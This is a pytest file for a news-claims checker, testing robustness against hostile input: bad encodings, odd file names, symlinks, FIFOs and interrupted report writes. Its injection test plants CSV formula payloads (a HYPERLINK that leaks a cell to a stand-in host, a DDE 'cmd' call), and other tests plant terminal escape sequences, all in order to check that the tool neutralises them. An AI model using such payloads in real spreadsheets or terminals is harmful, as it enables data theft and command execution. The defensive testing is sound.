"""Hostile and broken input (issue 16): no crash, no injection into reports or terminals,
nothing lost or wrongly read. Every input is generated in tmp_path."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
from rich.console import Console
from typer.testing import CliRunner

from checker.cli.app import app
from checker.documents import read_stories
from checker.errors import InputError
from checker.extract.claims import extract_claims
from checker.model import Document, Story
from checker.readers.html import read_html
from checker.readers.jsonrec import read_json
from checker.reports.render import render_report
from checker.reports.tables import neutralised
from checker.reports.terminal import for_terminal

ROOT = Path(__file__).resolve().parent.parent
SEEDS = ROOT / "seeds"
PROSE = "Officials said 12 people were killed and 40 injured in the fire on Tuesday.\n"
runner = CliRunner()


def run(*args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, list(args))
    return result.exit_code, result.stdout, result.stderr


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def statuses(story: Story) -> dict[str, tuple[str, str]]:
    return {i.document: (i.status, i.reason) for i in story.inputs}


def write(folder: Path, name: str | bytes, content: bytes | str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = os.path.join(os.fsencode(folder), os.fsencode(name))
    data = content.encode() if isinstance(content, str) else content
    with open(path, "wb") as handle:
        handle.write(data)
    return Path(os.fsdecode(path))


# --- crashes ------------------------------------------------------------------------------


def test_lone_surrogate_in_jsonl_and_json_is_read(tmp_path: Path) -> None:
    folder = tmp_path / "s"
    write(
        folder,
        "a.jsonl",
        '{"text": "Police said 12 people \\ud800 were killed.", "outlet": "X\\udfff"}\n',
    )
    write(folder, "b.json", '[{"text": "Police said 14 people were killed \\udc00 in the fire."}]')
    code, _, stderr = run("check", str(folder), "--report-dir", str(tmp_path / "r"), "-q")
    assert code == 0, stderr
    found = {r["document"]: r for r in rows(tmp_path / "r" / "documents.csv")}
    assert found["a.jsonl#1"]["status"] == "checked"
    assert found["b.json#1"]["status"] == "checked"
    assert "U+FFFD" in found["a.jsonl#1"]["reason"]
    claims = rows(tmp_path / "r" / "claims.csv")
    assert any("\ufffd" in c["sentence"] for c in claims)


@pytest.mark.skipif(sys.platform != "linux", reason="needs a file system that takes any bytes")
def test_file_name_that_is_not_utf8_is_reported(tmp_path: Path) -> None:
    folder = tmp_path / "s"
    write(folder, b"caf\xe9 \xff.txt", PROSE)
    out = tmp_path / "r"
    code, _, stderr = run("check", str(folder), "--report-dir", str(out), "-q")
    assert code == 0, stderr
    (row,) = rows(out / "documents.csv")
    assert row["document"] == "caf\ufffd \ufffd.txt" and row["status"] == "checked"
    leftovers = [p for p in out.rglob("*") if p.is_file() and p.stat().st_size == 0]
    assert leftovers == []


def _seed_copy(tmp_path: Path, names: list[str]) -> list[Path]:
    """The seed story's articles under the given names (a flagged story)."""
    sources = sorted(p for p in SEEDS.iterdir() if p.suffix == ".txt")
    copies = []
    for source, name in zip(sources, names, strict=False):
        target = tmp_path / name
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(source, target)
        copies.append(target)
    return copies


def test_markup_and_escapes_in_names_print_as_written(tmp_path: Path) -> None:
    names = ["s/[/x] a.txt", "s/quake [draft].txt", "s/quake [update 2].txt", "s/b\x1b[2J.txt"]
    names += [f"s/n{i}.txt" for i in range(5)]
    copies = _seed_copy(tmp_path, names)
    report = __import__("checker").check([str(p) for p in copies])
    assert report.discrepancies
    console = Console(file=io.StringIO(), width=300, force_terminal=True, color_system=None)
    render_report(report, console)
    shown = console.file.getvalue()  # type: ignore[attr-defined]
    flagged = {c.document for c in _flagged(report)}
    assert flagged & {"[/x] a.txt", "quake [draft].txt", "quake [update 2].txt", "b\x1b[2J.txt"}
    for document in flagged:
        assert for_terminal(document) in shown
    assert "\x1b[2J" not in shown


def _flagged(report: object) -> list:
    return [c for f in report.discrepancies for c in f.group.claims]  # type: ignore[attr-defined]


def test_control_characters_never_reach_the_terminal(tmp_path: Path) -> None:
    folder = tmp_path / "s\x1b[2J"
    write(folder, "a\x1b]0;x\x07.txt", "Gunfire \x1b[2J killed 12 people, police said.\n")
    code, stdout, stderr = run("check", str(folder), "--report-dir", str(tmp_path / "r"))
    assert code == 0
    assert "\x1b" not in stdout + stderr and "\x07" not in stdout + stderr
    code, _, stderr = run("check", str(tmp_path / "none\x1b[2J"))
    assert code == 2 and "\x1b" not in stderr and "\\x1b" in stderr


# --- injection ----------------------------------------------------------------------------


def test_formula_cells_are_neutralised_unless_raw(tmp_path: Path) -> None:
    folder = tmp_path / "s"
    write(folder, "a.txt", '=HYPERLINK("http://x/?leak="&A1,"y") said 12 people were killed.\n')
    write(folder, "sources.csv", "file,outlet\na.txt,=cmd|' /C calc'!A0\n")
    out = tmp_path / "r"
    assert run("check", str(folder), "--report-dir", str(out), "-q")[0] == 0
    (claim,) = [c for c in rows(out / "claims.csv") if c["quote"] == "12 people"]
    assert claim["sentence"].startswith("'=HYPERLINK(")
    assert claim["outlet"] == "'=cmd|' /C calc'!A0"
    assert rows(out / "documents.csv")[0]["outlet"] == "'=cmd|' /C calc'!A0"
    assert run("check", str(folder), "--report-dir", str(out), "-q", "--raw-csv")[0] == 0
    (claim,) = [c for c in rows(out / "claims.csv") if c["quote"] == "12 people"]
    assert claim["sentence"].startswith("=HYPERLINK(") and claim["outlet"].startswith("=cmd")


def test_plain_numbers_are_not_neutralised() -> None:
    assert [neutralised(c) for c in ("-12", "+3.5", "-1e5", "@x", "-x", "\tx", "a=b")] == [
        "-12",
        "+3.5",
        "-1e5",
        "'@x",
        "'-x",
        "'\tx",
        "a=b",
    ]


# --- reports as a set ---------------------------------------------------------------------

_WRITER = """
import sys
import time
from pathlib import Path
from checker.reports.tables import write_files
marker, folder = sys.argv[1], Path(sys.argv[2])
body = (marker + "\\n") * 400_000
print("writing", flush=True)
write_files(folder, {n: body for n in ("claims.csv", "discrepancies.csv", "documents.csv")})
"""


def _markers(folder: Path) -> set[str]:
    found = set()
    for name in ("claims.csv", "discrepancies.csv", "documents.csv"):
        with (folder / name).open(encoding="utf-8") as handle:
            found.add(handle.readline().strip())
    return found


def test_a_run_killed_mid_write_leaves_one_whole_set(tmp_path: Path) -> None:
    folder = tmp_path / "r"
    subprocess.run([sys.executable, "-c", _WRITER, "old", str(folder)], check=True)
    for number, delay in enumerate([0.0, 0.005, 0.01, 0.02, 0.03, 0.05, 0.08, 0.12]):
        process = subprocess.Popen(
            [sys.executable, "-c", _WRITER, f"new{number}", str(folder)], stdout=subprocess.PIPE
        )
        assert process.stdout is not None and process.stdout.readline() == b"writing\n"
        time.sleep(delay)  # then SIGKILL, somewhere in the writing
        process.kill()
        process.wait()
        process.stdout.close()
        found = _markers(folder)
        assert len(found) == 1, (delay, found)  # never a mix of two sets
        assert all(len(_lines(folder / n)) == 400_000 for n in ("claims.csv", "documents.csv"))


def _lines(path: Path) -> list[str]:
    return path.read_text(encoding="utf-8").splitlines()


# --- links, FIFOs, devices ----------------------------------------------------------------


def test_links_out_of_the_folder_are_skipped_unless_followed(tmp_path: Path) -> None:
    outside = write(tmp_path / "elsewhere", "secret.txt", PROSE)
    folder = tmp_path / "s"
    write(folder, "a.txt", PROSE.replace("12", "13"))
    (folder / "link.txt").symlink_to(outside)
    (folder / "dir").symlink_to(outside.parent, target_is_directory=True)
    (story,) = read_stories([str(folder)])
    found = statuses(story)
    assert found["link.txt"] == (
        "skipped",
        "symbolic link out of the input folder (--follow-links reads it)",
    )
    assert found["dir"][0] == "skipped"
    followed = read_stories([str(folder)], follow_links=True)
    assert any(
        i.document == "link.txt" and i.status == "checked" for s in followed for i in s.inputs
    )


def test_a_folder_of_links_out_says_how_to_read_them(tmp_path: Path) -> None:
    outside = write(tmp_path / "elsewhere", "secret.txt", PROSE)
    folder = tmp_path / "s"
    folder.mkdir()
    (folder / "link.txt").symlink_to(outside)
    code, _, stderr = run("check", str(folder), "--report-dir", str(tmp_path / "r"))
    assert code == 2
    assert stderr.startswith("Error: no documents found") and "pass --follow-links" in stderr
    followed = ("check", str(folder), "--report-dir", str(tmp_path / "r"), "--follow-links")
    assert run(*followed)[0] == 0


def test_fifo_and_device_named_are_refused(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    for path in (str(fifo), "/dev/zero"):
        code, _, stderr = run("check", path, "--report-dir", str(tmp_path / "r"))
        assert code == 2 and stderr.count("\n") == 1 and "not a file" in stderr
    with pytest.raises(InputError):
        read_stories(["/dev/null"])


def test_fifo_and_device_link_in_a_folder_have_the_right_reason(tmp_path: Path) -> None:
    folder = tmp_path / "s"
    write(folder, "a.txt", PROSE)
    os.mkfifo(folder / "pipe.txt")
    (folder / "null.txt").symlink_to("/dev/null")
    (story,) = read_stories([str(folder)])
    found = statuses(story)
    assert found["pipe.txt"] == ("skipped", "not a regular file (a FIFO)")
    assert found["null.txt"][1] != "broken symbolic link"
    assert "character device" in found["null.txt"][1]


# --- encodings and language ---------------------------------------------------------------


def test_one_invalid_utf8_byte_is_replaced_with_a_note(tmp_path: Path) -> None:
    text = "Officials said \u201c12 people\u201d were killed \u2014 and 40 injured.\n" * 3
    raw = text.encode()
    write(tmp_path / "s", "a.txt", raw[:30] + b"\x81" + raw[30:])
    (story,) = read_stories([str(tmp_path / "s")])
    assert statuses(story)["a.txt"] == ("checked", "1 invalid UTF-8 byte read as U+FFFD")
    assert "\ufffd" in story.documents[0].text


def test_utf16_without_bom_and_html_with_nul_bytes_are_text(tmp_path: Path) -> None:
    folder = tmp_path / "s"
    write(folder, "a.txt", (PROSE * 3).encode("utf-16-le"))
    page = f"<html><body><article><p>{PROSE}</p>\x00<p>{PROSE.replace('12', '15')}</p></article></body></html>"
    write(folder, "b.html", page.encode())
    (story,) = read_stories([str(folder)])
    found = statuses(story)
    assert found["a.txt"][0] == "checked"
    assert found["b.html"][0] == "checked"
    assert story.documents[0].text.startswith("Officials said 12")


def test_a_german_article_is_skipped_and_yields_no_claims(tmp_path: Path) -> None:
    german = (
        "Bei dem Erdbeben starben nach Angaben der Polizei 12 Menschen. Die Wahlbehörde "
        "zählte 89.724 Stimmen, die meisten davon in der Stadt. Die Opfer seien noch nicht "
        "identifiziert, sagte ein Sprecher am Dienstag.\n"
    )
    folder = tmp_path / "s"
    write(folder, "de.txt", german)
    write(folder, "en.txt", PROSE)
    out = tmp_path / "r"
    assert run("check", str(folder), "--report-dir", str(out), "-q")[0] == 0
    found = {r["document"]: r for r in rows(out / "documents.csv")}
    assert (found["de.txt"]["status"], found["de.txt"]["reason"]) == (
        "skipped",
        "language de not supported",
    )
    assert {c["document"] for c in rows(out / "claims.csv")} == {"en.txt"}


# --- exit status --------------------------------------------------------------------------


def test_nothing_checked_exits_2_with_one_line(tmp_path: Path) -> None:
    folder = tmp_path / "s"
    write(folder, "a.txt", b"\x00\x01\x02\x03" * 100)
    write(folder, "b.txt", "")
    code, stdout, stderr = run("check", str(folder), "--report-dir", str(tmp_path / "r"))
    assert code == 2
    assert stderr.startswith("Error: nothing was checked") and stderr.count("\n") == 1
    assert len(rows(tmp_path / "r" / "documents.csv")) == 2


def test_internal_error_exits_3_with_a_saved_traceback(tmp_path: Path) -> None:
    write(tmp_path / "s", "a.txt", PROSE)
    script = (
        "import sys, checker.pipeline as p\n"
        "def boom(*a, **k): raise RuntimeError('boom')\n"
        "p.align_claims = boom\n"
        "from checker.cli.app import main\n"
        "sys.argv = ['checkclaims', sys.argv[1], '--report-dir', sys.argv[2]]\n"
        "main()\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, str(tmp_path / "s"), str(tmp_path / "r")],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 3
    assert "Traceback" not in done.stderr and done.stderr.count("\n") == 1
    saved = Path(done.stderr.split("the traceback is in ")[1].split(";")[0])
    assert "RuntimeError: boom" in saved.read_text(encoding="utf-8")
    saved.unlink()


# --- smaller ------------------------------------------------------------------------------


def test_duplicate_manifest_columns_are_an_error_naming_the_column(tmp_path: Path) -> None:
    folder = tmp_path / "s"
    write(folder, "a.txt", PROSE)
    write(folder, "sources.csv", "file,outlet,Outlet\na.txt,X,Y\n")
    (story,) = read_stories([str(folder)])
    assert statuses(story)["sources.csv"] == (
        "skipped",
        "manifest not read: column 'outlet' appears twice",
    )


def test_deep_html_keeps_its_text() -> None:
    page = "<html><body>" + "<div>" * 2000 + f"<p>{PROSE}</p>" + "</div>" * 2000 + "</body></html>"
    (part,) = read_html(page)
    assert not part.skip and "12 people were killed" in part.text


def test_a_5000_digit_number_does_not_invalidate_json() -> None:
    record = json.dumps({"text": PROSE.strip()})[:-1] + ', "views": ' + "9" * 5000 + "}"
    (part,) = read_json(record)
    assert not part.skip and part.text.startswith("Officials said 12")


def test_a_dash_before_a_count_is_not_a_minus() -> None:
    for text in ("-12 people died in the fire.", "Police said -12 people died."):
        claims = extract_claims(Document(doc_id="d", text=text, story="s", path="d"))
        (claim,) = [c for c in claims if c.kind == "count"]
        assert (claim.value, claim.quote) == ("12", "12 people")
    (claim,) = extract_claims(
        Document(doc_id="d", text="It fell to -12 degrees.", story="s", path="d")
    )
    assert claim.value == "-12"


def test_manifest_row_of_an_unread_entry_is_not_called_not_found(tmp_path: Path) -> None:
    folder = tmp_path / "s"
    write(folder, "a.txt", PROSE)
    (folder / "sub").mkdir()
    write(folder, "sources.csv", "file,outlet\na.txt,X\nsub,Y\n")
    (story,) = read_stories([str(folder)])
    assert statuses(story)["sub"] == ("missing", "listed in sources.csv but it is a folder")


def test_json_values_of_every_kind_never_raise() -> None:
    for value in (
        "[1, 2]",
        '"x"',
        "null",
        '{"text": 5}',
        '{"records": [{"text": "a b"}]}',
        "[[[]]]",
    ):
        parts = read_json(value)
        assert parts and all(isinstance(p.skip, str) for p in parts)
    assert json.loads("[]") == []


def test_a_carriage_return_in_a_file_name_keeps_documents_csv_one_row_a_file(
    tmp_path: Path,
) -> None:
    story = tmp_path / "story"
    story.mkdir()
    (story / "f\r.txt").write_text("Officials said 12 people were killed.\n", encoding="utf-8")
    (story / "g.txt").write_text("Officials said 12 people were killed.\n", encoding="utf-8")
    out = tmp_path / "out"
    runner.invoke(app, ["check", str(story), "--report-dir", str(out), "-q"])
    with (out / "documents.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted(r["document"] for r in rows) == ["f\r.txt", "g.txt"]
    assert all(None not in r.values() for r in rows)
